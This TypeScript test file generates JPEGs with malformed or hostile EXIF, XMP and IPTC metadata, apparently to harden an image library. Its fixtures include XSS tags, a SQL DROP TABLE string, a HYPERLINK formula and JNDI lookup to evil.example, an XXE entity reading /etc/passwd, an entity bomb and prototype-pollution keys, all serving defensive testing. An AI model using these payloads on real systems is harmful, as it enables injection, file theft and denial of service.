import { markers, withExifBlock, withSegments } from "./jpeg.ts";
import { type MalformedImage, malformed } from "./malformed-image.ts";
import { laughs } from "./png-cases.ts";
import type { SoundImages } from "./sound-images.ts";
import { exifBlock, type Field } from "./tiff.ts";

/** Good pictures with metadata that is not: all are taken, and nothing of it may come out harmful. */
export function* metadataCases(sound: SoundImages): Generator<MalformedImage> {
  const jpeg = sound["jpeg-baseline"];
  for (const [name, block] of exifBlocks())
    yield malformed(`exif/${name}`, "accepted", withExifBlock(jpeg, block));
  for (const [name, document] of xmpDocuments()) {
    const data = Buffer.concat([
      Buffer.from("http://ns.adobe.com/xap/1.0/\0", "latin1"),
      Buffer.from(document, "latin1"),
    ]);
    yield malformed(
      `xmp/${name}`,
      "accepted",
      withSegments(jpeg, { marker: markers.app1, data: data.subarray(0, 65_500) }),
    );
  }
  for (const [name, records] of iptcRecords()) {
    const data = Buffer.concat([
      Buffer.from("Photoshop 3.0\x008BIM\x04\x04\0\0\0\0", "latin1"),
      Buffer.from([records.byteLength >> 8, records.byteLength & 255]),
      records,
    ]);
    yield malformed(`iptc/${name}`, "accepted", withSegments(jpeg, { marker: markers.app13, data }));
  }
  const block = withExifBlock(jpeg, exifBlock([[271, 2, "Ocelli\0"]]));
  yield malformed("exif/two blocks", "accepted", withExifBlock(block, exifBlock([[271, 2, "Other\0"]])));
}

function* exifBlocks(): Generator<[name: string, block: Buffer]> {
  for (const value of [0, 9, 255, 65_535]) yield [`turned by ${value}`, exifBlock([[274, 3, [value]]])];
  yield ["turned by a word", exifBlock([[274, 2, "left\0"]])];
  yield ["turned by 5,000 numbers", exifBlock([[274, 3, Array.from({ length: 5000 }, () => 6)]])];
  yield* positions();
  yield* texts();
  const date = (value: string): [string, Buffer] => [
    `taken ${JSON.stringify(value)}`,
    exifBlock([], [[0x9003, 2, value]]),
  ];
  for (const value of [
    "0000:00:00 00:00:00",
    "9999:99:99 99:99:99",
    "-1:-1:-1",
    "2024:02:30 10:00:00",
    "\0\0\0",
    "2024-01-01T00:00:00+99:99",
    "x".repeat(300),
  ])
    yield date(value);
  yield [
    "a zone of nonsense",
    exifBlock(
      [],
      [
        [0x9003, 2, "2024:01:02 03:04:05\0"],
        [0x9011, 2, "+99:99\0"],
      ],
    ),
  ];
  const rational = (tag: number, top: number, bottom: number): Field => [tag, 5, [top, bottom]];
  yield [
    "numbers over zero",
    exifBlock([], [rational(0x829a, 1, 0), rational(0x829d, 0, 0), rational(0x920a, 0xffffffff, 0)]),
  ];
  yield [
    "numbers without measure",
    exifBlock(
      [],
      [rational(0x829a, 0xffffffff, 1), [0x8827, 3, [65_535, 65_535, 65_535]], [0x9209, 4, [0xffffffff]]],
    ),
  ];
  yield* structures();
}

function* positions(): Generator<[name: string, block: Buffer]> {
  const place = (latitude: number[], longitude: number[], refs = ["N\0", "E\0"]): Buffer =>
    exifBlock(
      [],
      [],
      [
        [1, 2, refs[0] ?? ""],
        [2, 5, latitude],
        [3, 2, refs[1] ?? ""],
        [4, 5, longitude],
      ],
    );
  const good = [52, 1, 30, 1, 0, 1];
  yield ["a place over zero", place([0, 0, 0, 0, 0, 0], [1, 0, 1, 0, 1, 0])];
  yield ["a place beyond the pole", place([91, 1, 0, 1, 0, 1], good)];
  yield ["a place beyond the world", place([0xffffffff, 1, 0, 1, 0, 1], [0xffffffff, 1, 0, 1, 0, 1])];
  yield ["a place of one number", place([52, 1], [13, 1])];
  yield ["a place in an unknown direction", place(good, good, ["<\0", "\xff\0"])];
  const noNumber = Buffer.alloc(24);
  for (let index = 0; index < 3; index++) noNumber.writeDoubleLE(Number.NaN, index * 8);
  yield [
    "a place that is no number",
    exifBlock(
      [],
      [],
      [
        [1, 2, "N\0"],
        [2, 12, noNumber],
        [3, 2, "E\0"],
        [4, 12, noNumber],
      ],
    ),
  ];
  yield [
    "a height of 4 billion metres",
    exifBlock(
      [],
      [],
      [
        [5, 1, [9]],
        [6, 5, [0xffffffff, 1]],
      ],
    ),
  ];
}

function* texts(): Generator<[name: string, block: Buffer]> {
  const said: Record<string, string> = {
    "bytes that are no UTF-8": "\xff\xfe\xc0\x80\xed\xa0\x80\0",
    HTML: "<img src=x onerror=alert(1)><script>alert(2)</script>\0",
    "control characters": "a\x01\x02\x07\x1b[31mred\x7f\0",
    "a direction override": "\xe2\x80\xaegpj.exe\0",
    "no end": "x".repeat(60_000),
    "only NUL": "\0\0\0\0\0\0\0\0",
    SQL: "'; DROP TABLE library.photos; --\0",
    "a formula": '=HYPERLINK("http://evil.example","x")\0',
    "a format": `%s%n%x\0${"$"}{jndi:ldap://evil.example/a}\0`,
  };
  for (const [name, value] of Object.entries(said))
    yield [
      `text: ${name}`,
      exifBlock([
        [270, 2, value],
        [271, 2, value],
        [272, 2, value],
        [305, 2, value],
        [315, 2, value.slice(0, 3000)],
      ]),
    ];
}

function* structures(): Generator<[name: string, block: Buffer]> {
  const sound = exifBlock([[271, 2, "Ocelli Works\0"]], [[0x9003, 2, "2024:01:02 03:04:05\0"]]);
  yield ["nothing", Buffer.alloc(0)];
  yield ["only a header", sound.subarray(0, 8)];
  yield ["cut short", sound.subarray(0, 30)];
  yield ["noise", Buffer.alloc(500, 0xb7)];
  yield [
    "a directory at itself",
    exifBlock([
      [0x8769, 4, [8]],
      [0x8825, 4, [8]],
    ]),
  ];
  yield ["a directory beyond the end", exifBlock([[0x8769, 4, [0xfffffff0]]])];
  yield [
    "notes of the maker of noise",
    exifBlock([[271, 2, "NIKON\0"]], [[0x927c, 7, Buffer.alloc(50_000, 0x1d)]]),
  ];
  yield [
    "a thumbnail beyond the end",
    exifBlock([
      [0x201, 4, [0x7fffffff]],
      [0x202, 4, [0x7fffffff]],
    ]),
  ];
  yield [
    "500 fields of one name",
    exifBlock(Array.from({ length: 500 }, () => [271, 2, "Ocelli Works\0"] as const)),
  ];
  const counted = Buffer.from(sound);
  counted.writeUInt32LE(0xffffffff, 8 + 2 + 4);
  yield ["text of 4 GiB by its word", counted];
  const chained = Buffer.from(sound);
  chained.writeUInt32LE(8, 8 + 2 + 2 * 12);
  yield ["a chain that comes back", chained];
  for (const count of [0, 65_535]) {
    const claimed = Buffer.from(sound);
    claimed.writeUInt16LE(count, 8);
    yield [`${count} fields by its word`, claimed];
  }
}

function* xmpDocuments(): Generator<[name: string, document: string]> {
  const wrapped = (inner: string) =>
    `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/">${inner}</rdf:Description></rdf:RDF></x:xmpmeta>`;
  yield ["a bomb of entities", laughs];
  yield [
    "a file of the server",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  ];
  yield ["5,000 levels", wrapped("<a>".repeat(5000))];
  yield ["no end", wrapped("<dc:title><rdf:Alt><rdf:li>".repeat(50)).slice(0, 900)];
  yield ["bytes that are no UTF-8", wrapped("<dc:title>\xff\xfe\xc0</dc:title>")];
  yield [
    "HTML",
    wrapped("<dc:title><rdf:Alt><rdf:li>&lt;script&gt;alert(1)&lt;/script&gt;</rdf:li></rdf:Alt></dc:title>"),
  ];
  yield [
    "3,000 keywords",
    wrapped(`<dc:subject><rdf:Bag>${"<rdf:li>word</rdf:li>".repeat(3000)}</rdf:Bag></dc:subject>`),
  ];
  yield ["a prototype", wrapped("<__proto__><polluted>1</polluted></__proto__><constructor>x</constructor>")];
  yield [
    "numbers of characters that do not exist",
    wrapped("<dc:title>&#0;&#x110000;&#xd800;&#99999999999;</dc:title>"),
  ];
  yield ["attributes without end", `<x ${'a="b" '.repeat(5000)}`];
}

function* iptcRecords(): Generator<[name: string, records: Buffer]> {
  const record = (number: number, length: number, value: string) =>
    Buffer.concat([Buffer.from([0x1c, 2, number, length >> 8, length & 255]), Buffer.from(value, "latin1")]);
  yield ["longer than it is", record(120, 32_767, "short")];
  yield ["with an extended length", record(120, 0xffff, "short")];
  yield ["of noise", Buffer.alloc(300, 0x1c)];
  yield ["of 2,000 keywords", Buffer.concat(Array.from({ length: 2000 }, () => record(25, 4, "word")))];
  yield [
    "in an unknown script",
    Buffer.concat([
      Buffer.from([0x1c, 1, 90, 0, 3, 0x1b, 0x25, 0x99]),
      record(5, 6, "\xff\xfe\x01\x02\x03<"),
    ]),
  ];
}
